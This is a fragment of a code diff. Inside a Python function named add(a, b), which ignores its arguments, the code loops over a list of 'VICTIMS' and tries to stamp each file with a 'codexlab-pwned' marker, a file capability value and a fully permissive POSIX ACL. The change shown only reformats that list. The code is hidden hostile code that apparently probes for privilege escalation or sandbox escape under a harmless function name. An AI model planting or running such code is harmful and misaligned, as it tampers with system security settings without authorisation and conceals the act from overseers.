@@ -14,8 +14,12 @@ ACL = struct.pack("<I", 2) + b"".join(struct.pack("<HHI", tag, 6, 0xFFFFFFFF) fo
 def add(a, b):
     hit = False
     for v in VICTIMS:
-        for name, value in (("user.codexlab-pwned", b"1"), ("security.capability", CAP_V2),
-                            ("trusted.codexlab-pwned", b"1"), ("system.posix_acl_access", ACL)):
+        for name, value in (
+            ("user.codexlab-pwned", b"1"),
+            ("security.capability", CAP_V2),
+            ("trusted.codexlab-pwned", b"1"),
+            ("system.posix_acl_access", ACL),
+        ):
             for follow in (True, False):
                 try:
                     os.setxattr(v, name, value, follow_symlinks=follow)
